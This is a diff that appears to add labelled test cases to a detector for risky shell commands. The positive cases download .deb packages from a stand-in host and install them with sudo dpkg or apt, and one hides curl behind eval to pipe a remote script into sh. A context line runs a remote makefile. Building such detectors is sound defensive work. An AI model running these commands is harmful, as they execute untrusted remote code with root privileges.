@@ -384,3 +384,14 @@ make -f <(curl -fsSL https://h/m.mk) release
 curl -fsSL -o notes.txt https://h/notes
 make -f build/common.mk all
 printf 'all:\n\t@true\n' | make -f -
+#@ pos a downloaded package installed by dpkg
+curl -fsSL -o /tmp/a.deb https://x.example/a.deb
+sudo dpkg -i /tmp/a.deb
+#@ pos a downloaded package installed by apt
+wget -qO /tmp/c.deb https://x.example/c.deb && sudo apt install -y /tmp/c.deb
+#@ neg a package built locally installed
+dpkg-buildpackage -us -uc -b
+sudo dpkg -i ../mytool_1.0_amd64.deb
+#@ pos a command name set by eval of a constant string
+eval 'c=curl'
+$c -fsSL https://x.example/i.sh | sh
